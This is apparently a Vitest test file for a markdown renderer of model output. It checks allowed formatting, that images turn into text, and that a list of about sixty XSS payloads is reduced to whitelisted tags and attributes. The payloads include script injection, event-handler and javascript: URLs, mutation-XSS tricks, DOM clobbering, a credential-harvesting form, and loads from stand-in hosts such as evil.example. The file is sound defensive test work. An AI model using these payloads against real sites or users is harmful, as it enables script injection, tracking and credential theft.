import { describe, expect, test } from "vitest";
import { render } from "./render.ts";

function html(source: string, definitions?: string): string {
  const place = document.createElement("div");
  place.append(render(source, definitions));
  return place.innerHTML.trim();
}

describe("what a model may write", () => {
  test.each([
    ["# Title", "<h3>Title</h3>"],
    ["### Part", "<h4>Part</h4>"],
    ["###### Deep", "<h6>Deep</h6>"],
    [
      "**bold** _and_ ~~gone~~ `code`",
      "<p><strong>bold</strong> <em>and</em> <del>gone</del> <code>code</code></p>",
    ],
    ["H<sub>2</sub>O<br>next", "<p>H<sub>2</sub>O<br>next</p>"],
    ["3. third", '<ol start="3">\n<li>third</li>\n</ol>'],
    ["- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>"],
    ["```js\n1 < 2\n```", '<pre><code class="language-js">1 &lt; 2\n</code></pre>'],
    ["a &amp; b < c", "<p>a &amp; b &lt; c</p>"],
    [
      "[site](https://example.org/a?b=1&c=2)",
      '<p><a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">site</a></p>',
    ],
  ])("%j is shown", (source, expected) => {
    expect(html(source)).toBe(expected);
  });

  test("a table keeps the alignment of its columns", () => {
    expect(html("|a|b|\n|-|-:|\n|c|d|")).toContain('<td align="right">d</td>');
  });

  test("a link may be defined in another block", () => {
    expect(html("[there]", "[there]: https://example.org\n")).toContain(
      'href="https://example.org"',
    );
  });
});

describe("an image is never loaded", () => {
  test.each([
    ["![a cat](https://tracker.example/p.png?q=secret)", "a cat"],
    ["![](https://tracker.example/p.png)", "https://tracker.example/p.png"],
    ['<img src="https://tracker.example/p.png" alt="a cat">', "a cat"],
    ["[![a cat](https://tracker.example/p.png)](https://example.org)", "a cat"],
    ["![a cat](data:image/svg+xml;base64,PHN2Zz4=)", "a cat"],
  ])("%j becomes words", (source, shown) => {
    const fragment = render(source);

    expect(fragment.querySelector("img, picture, source, svg, image")).toBeNull();
    expect(fragment.textContent?.trim()).toBe(shown);
  });
});

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' onerror='alert(1)'//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></use></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
  "<link rel='stylesheet' href='https://evil.example/x.css'>",
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  "<form action='https://evil.example'><input name='password'><button>Sign in</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<select><option>x</option></select><textarea autofocus></textarea>",
  "<button formaction='javascript:alert(1)' class='button main'>Try again</button>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<video poster='https://tracker.example/p.png'></video>",
  "<body onload=alert(1)>",
  "<div style='background:url(https://tracker.example/p.png)'>x</div>",
  "<div style='position:fixed;inset:0' class='composer' id='app'>x</div>",
  "<p id='message' name='message'>clobber</p>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/console?delete=all'>x</a>",
  "<a href='https://example.org' target='_self' rel='opener' ping='https://tracker.example' onclick='alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://example.org/1)",
  "<javascript:alert(1)>",
  '[x](https://example.org "title\' onmouseover=alert(1)")',
  '![x" onerror="alert(1)](https://example.org/x.png)',
  '```js" onmouseover="alert(1)\n1\n```',
  "```\n</code></pre><script>alert(1)</script>\n```",
  "`</code><img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<table background='https://tracker.example/p.png'><tr><td background='https://tracker.example/p.png'>x</td></tr></table>",
  "<template><script>alert(1)</script></template>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<p is='x-y' slot='x' contenteditable tabindex=0 draggable=true>x</p>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<p role='status' aria-live='assertive' data-x='1'>x</p>",
  "<code class='language-js composer'>x</code><code class='send'>x</code>",
];

describe("an attack is left without teeth", () => {
  const tags = new Set(
    "P BR HR H3 H4 H5 H6 STRONG EM B I U S DEL INS SUB SUP MARK KBD ABBR SMALL CODE PRE BLOCKQUOTE UL OL LI DL DT DD TABLE THEAD TBODY TR TH TD A".split(
      " ",
    ),
  );
  const attributes: Record<string, RegExp> = {
    href: /^(?:https?:\/\/|mailto:|tel:)/,
    target: /^_blank$/,
    rel: /^noopener noreferrer$/,
    class: /^language-[\w+#.-]+$/,
    start: /^\d+$/,
    align: /^(?:left|right|center)$/,
  };

  test.each(
    attacks.flatMap((attack) => [attack, `Before ${attack} after`, `- item\n\n  ${attack}`]),
  )("%j", (source) => {
    for (const element of render(source).querySelectorAll("*")) {
      expect(tags).toContain(element.nodeName);
      for (const { name, value } of element.attributes) {
        expect(attributes[name], `${name} on ${element.nodeName}`).toBeDefined();
        expect(value).toMatch(attributes[name] as RegExp);
      }
    }
  });

  test("code that looks like an attack is shown as it was written", () => {
    const source = "```html\n<img src=x onerror=alert(1)>\n```";

    expect(render(source).querySelector("code")?.textContent).toBe(
      "<img src=x onerror=alert(1)>\n",
    );
  });
});
